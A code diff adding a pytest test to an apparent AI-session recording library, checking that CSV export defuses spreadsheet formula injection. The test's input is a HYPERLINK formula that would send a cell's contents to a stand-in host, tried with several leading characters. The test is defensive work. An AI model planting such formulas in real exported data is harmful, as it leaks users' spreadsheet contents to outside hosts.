@@ -11,6 +11,7 @@ import pytest
 from kits.records import Record
 
 import mentra_nb as mn
+import mentra_nb.event.types as e
 from mentra_nb.errors import ConfigurationError, OperationDenied
 from mentra_nb.record.keep.compact import compact
 from mentra_nb.record.keep.verify import verify
@@ -166,3 +167,17 @@ def test_an_empty_record_exports_empty_tables(tmp_path: Path) -> None:
     with duckdb.connect(str(target), read_only=True) as con:
         assert con.execute("SELECT count(*) FROM turns").fetchone() == (0,)
     export.export(tmp_path / "y", folder=tmp_path / "nothing")
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t=", "\r=", "＝"])
+def test_a_spreadsheet_computes_nothing_in_a_csv_file(record: Record, tmp_path: Path, begins: str) -> None:
+    """A model or a page that it read may have written the text."""
+    text = f'{begins}HYPERLINK("http://x.invalid/?"&A1,"total")'
+    record.add(e.TurnStarted, run_id="r1", model="m", prompt=text, session_id="s1")
+    record.add(e.TurnStarted, run_id="r2", model="m", prompt="1 = 1, -1 + x", session_id="s1")
+    file = mn.export(tmp_path / "turns.csv", table="turns", folder=record.folder)
+    assert pd.read_csv(file).prompt.tolist() == [f"'{text}", "1 = 1, -1 + x"]
+    whole = mn.export(tmp_path / "turns.parquet", table="turns", folder=record.folder)
+    assert pd.read_parquet(whole).prompt.tolist()[0] == text
+    for table in export.TABLES:
+        assert mn.export(tmp_path / "one.csv", table=table, folder=record.folder, overwrite=True).exists()
